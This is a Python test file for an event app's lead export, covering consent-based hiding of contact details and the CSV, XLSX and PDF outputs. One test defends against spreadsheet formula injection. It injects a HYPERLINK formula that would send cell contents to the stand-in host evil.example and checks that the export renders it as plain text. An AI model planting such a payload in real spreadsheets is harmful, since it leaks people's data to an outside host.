from __future__ import annotations

import csv
import subprocess
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import update

from eventdesk.exports.spreadsheet import ExportError, is_formula_like
from eventdesk.persistence.document import EventDocument
from eventdesk.persistence.tables import Attendee, Lead
from eventdesk.services.leads.booth import LeadScanner, list_leads
from eventdesk.services.leads.export import HEADERS, export_leads
from eventdesk.services.leads.kits import make_kit
from tests.factories import EventFactory
from tests.services.leads.support import add_meetings, company_with_staff, token, visitors

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def doc(events: EventFactory) -> Iterator[EventDocument]:
    document = events.demo(attendees=150, companies=5, seed=13)
    yield document
    document.close()


@pytest.fixture
def company_id(doc: EventDocument) -> int:
    company, _ = company_with_staff(doc)
    assert company.id is not None
    return company.id


@pytest.fixture
def with_leads(doc: EventDocument, company_id: int) -> dict[str, Attendee]:
    """Two people who agreed (one scanned, one from an attended meeting) and one who did not."""
    agreed = visitors(doc, consent=True, count=2)
    refused = visitors(doc, consent=False, count=1)[0]
    booth = LeadScanner(doc=doc, company_id=company_id, staff="Søren Kierkegaard")
    booth.scan(token(doc, agreed[0].id), rating="hot", note="Wants to move to Copenhagen", tags=["QA", "GMP"])
    booth.scan(token(doc, refused.id), rating="2", note="Asked about internships")
    add_meetings(doc, company_id=company_id, attendee_ids=[agreed[1].id], status="attended")
    return {"scanned": agreed[0], "met": agreed[1], "refused": refused}


def _csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


def _xlsx(path: Path) -> tuple[list[dict[str, object]], list[list[openpyxl.cell.Cell]]]:
    sheet = openpyxl.load_workbook(path).active
    rows = list(sheet.iter_rows())
    headers = [c.value for c in rows[0]]
    return [dict(zip(headers, (c.value for c in row), strict=True)) for row in rows[1:]], rows[1:]


def test_csv_has_contact_details_only_of_people_who_agreed(
    doc: EventDocument, company_id: int, with_leads: dict[str, Attendee], tmp_path: Path
) -> None:
    result = export_leads(doc=doc, company_id=company_id, path=tmp_path / "leads.csv")
    assert (result.leads, result.shared) == (3, 2)
    rows = _csv(tmp_path / "leads.csv")
    assert list(rows[0]) == list(HEADERS)
    by_email = {row["E-mail"]: row for row in rows}
    scanned, met, refused = with_leads["scanned"], with_leads["met"], with_leads["refused"]
    row = by_email[scanned.email]
    assert row["Name"] == f"{scanned.given_name} {scanned.family_name}"
    assert (row["Organisation"], row["Job title"], row["Phone"]) == (
        scanned.organisation,
        scanned.job_title,
        scanned.phone,
    )
    assert (row["Rating"], row["Notes"], row["Tags"], row["Source"], row["Staff"]) == (
        "hot",
        "Wants to move to Copenhagen",
        "QA; GMP",
        "scan",
        "Søren Kierkegaard",
    )
    assert by_email[met.email]["Source"] == "meeting"
    [hidden] = [r for r in rows if r["Details shared"] == "no"]
    assert all(hidden[k] == "" for k in ("Name", "Organisation", "Job title", "E-mail", "Phone"))
    assert (hidden["Rating"], hidden["Notes"]) == ("2", "Asked about internships")
    text = (tmp_path / "leads.csv").read_text(encoding="utf-8-sig")
    for value in (refused.email, refused.phone, refused.family_name):
        assert value not in text
    # The same as the lead list the screen shows, oldest first.
    views = list(reversed(list_leads(doc=doc, company_id=company_id)))
    assert [r["Time"] for r in rows] == [f"{v.captured_at:%Y-%m-%d %H:%M}" for v in views]


def test_xlsx_matches_the_csv(
    doc: EventDocument, company_id: int, with_leads: dict[str, Attendee], tmp_path: Path
) -> None:
    export_leads(doc=doc, company_id=company_id, path=tmp_path / "leads.csv")
    export_leads(doc=doc, company_id=company_id, path=tmp_path / "leads.xlsx")
    from_csv = _csv(tmp_path / "leads.csv")
    from_xlsx, _ = _xlsx(tmp_path / "leads.xlsx")
    normalised = [{k: "" if v is None else str(v) for k, v in row.items()} for row in from_xlsx]
    assert normalised == from_csv
    assert with_leads["refused"].email not in str(from_xlsx)


def test_the_pdf_is_headed_with_company_and_event_and_hides_who_did_not_agree(
    doc: EventDocument, company_id: int, with_leads: dict[str, Attendee], tmp_path: Path
) -> None:
    export_leads(doc=doc, company_id=company_id, path=tmp_path / "leads.pdf")
    text = subprocess.run(
        ["pdftotext", "-layout", str(tmp_path / "leads.pdf"), "-"], capture_output=True, text=True, check=True
    ).stdout
    company, _ = company_with_staff(doc)
    from eventdesk.services.events import event_summary

    assert f"Leads — {company.name}" in text and event_summary(doc=doc).name in text
    for person in (with_leads["scanned"], with_leads["met"]):
        assert person.email in text and person.family_name in text
    refused = with_leads["refused"]
    for value in (refused.email, refused.phone, refused.family_name):
        assert value not in text
    assert "Visitor (details not shared)" in text and "Asked about internships" in text
    fonts = subprocess.run(
        ["pdffonts", str(tmp_path / "leads.pdf")], capture_output=True, text=True, check=True
    ).stdout.splitlines()[2:]
    assert fonts and all(" yes " in line for line in fonts), fonts  # every font embedded
    assert not any("Helvetica" in line for line in fonts)


def test_a_kit_exports_its_own_leads_without_a_company_id(
    doc: EventDocument, company_id: int, with_leads: dict[str, Attendee], tmp_path: Path
) -> None:
    made = make_kit(doc=doc, company_id=company_id, path=tmp_path / "kit.eventdesk")
    kit = EventDocument.open(made.path)
    try:
        result = export_leads(doc=kit, company_id=None, path=tmp_path / "kit.csv")
    finally:
        kit.close()
    rows = _csv(tmp_path / "kit.csv")
    assert result.leads == 3 and {r["E-mail"] for r in rows} == {
        with_leads["scanned"].email,
        with_leads["met"].email,
        "",
    }


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_formula_like_names_and_notes_are_neutralised(
    doc: EventDocument, company_id: int, with_leads: dict[str, Attendee], tmp_path: Path, start: str
) -> None:
    payload = f'{start}HYPERLINK("http://evil.example/?"&A1,"CV")'
    scanned = with_leads["scanned"]
    with doc.session() as session:
        session.execute(
            update(Attendee)
            .where(Attendee.id == scanned.id)
            .values(given_name=payload, family_name="", organisation=payload, job_title=payload)
        )
        # As a merged kit could bring it, unstripped.
        session.execute(
            update(Lead).where(Lead.attendee_id == scanned.id).values(notes=payload, tags=[payload])
        )
    export_leads(doc=doc, company_id=company_id, path=tmp_path / "leads.csv")
    export_leads(doc=doc, company_id=company_id, path=tmp_path / "leads.xlsx")

    row = next(r for r in _csv(tmp_path / "leads.csv") if r["E-mail"] == scanned.email)
    for column in ("Name", "Organisation", "Job title", "Notes", "Tags"):
        assert not is_formula_like(row[column]), (column, row[column])
        assert row[column].lstrip("'").strip() == payload.strip(), column

    rows, cells = _xlsx(tmp_path / "leads.xlsx")
    index = next(i for i, r in enumerate(rows) if r["E-mail"] == scanned.email)
    for n, header in enumerate(HEADERS):
        cell = cells[index][n]
        if header in ("Name", "Organisation", "Job title", "Notes", "Tags") and is_formula_like(
            str(cell.value)
        ):
            assert cell.data_type == "s", header  # a text cell: Excel shows it and never runs it
        assert not str(cell.value).startswith("=") or cell.data_type == "s"
    # XML reads a carriage return back as a line feed; the text is otherwise exactly as typed.
    assert str(rows[index]["Notes"]).replace("\r", "\n") == payload.replace("\r", "\n")


def test_export_refuses_an_unknown_format_or_folder(
    doc: EventDocument, company_id: int, tmp_path: Path
) -> None:
    with pytest.raises(ExportError, match=r"\.csv, \.xlsx or \.pdf"):
        export_leads(doc=doc, company_id=company_id, path=tmp_path / "leads.txt")
    with pytest.raises(ExportError, match="does not exist"):
        export_leads(doc=doc, company_id=company_id, path=tmp_path / "nowhere" / "leads.csv")
